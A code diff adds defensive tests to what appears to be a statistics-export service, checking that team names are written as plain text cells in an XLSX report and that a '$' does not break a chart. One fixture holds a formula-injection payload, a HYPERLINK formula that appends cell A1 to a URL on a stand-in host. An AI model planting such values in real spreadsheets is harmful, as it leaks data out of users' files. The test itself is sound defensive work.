@@ -384,3 +384,33 @@ async def test_legal_question_is_stored_masked(bot):
     assert rows and all("0912345678" not in r["text"] + r["folded"] for r in rows)
     assert all("001234567890" not in r["text"] + r["folded"] for r in rows)
     assert msg.CASE_MASK_PHONE in rows[0]["text"]
+
+
+# --- 9. Names from the org file are text in the statistics XLSX; a '$' does not break the chart --------------
+
+def _hostile_report():
+    from services.models import Team
+    from services.statistics import Scope, build_report
+    from tests import test_stats_export as se
+    teams = [Team(100, 10, "ML-01", '=HYPERLINK("http://x.example/?"&A1,"Bấm")'), Team(101, 10, "ML-02", "Tổ $_^$ bản")]
+    scope = Scope("commune", se.ML.id, se.ML.code, se.ML.name, se.PROVINCE, se.ML)
+    return build_report(scope, se.PERIOD, field_results=se.FIELD_ROWS, team_results=se.TEAM_ROWS, teams=teams,
+                        members=se.MEMBERS, recognition_groups=[])
+
+
+def test_org_names_are_text_cells_in_the_statistics_xlsx():
+    import io
+
+    from openpyxl import load_workbook
+
+    from services.stats_export import report_xlsx
+    book = load_workbook(io.BytesIO(report_xlsx(_hostile_report())))
+    cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if isinstance(c.value, str)]
+    assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith("=")]
+    assert any("HYPERLINK" in c.value for c in cells)
+
+
+def test_dollar_in_a_team_name_does_not_break_the_chart():
+    from services.stats_export import report_chart
+    png = report_chart(_hostile_report())
+    assert png.startswith(b"\x89PNG")
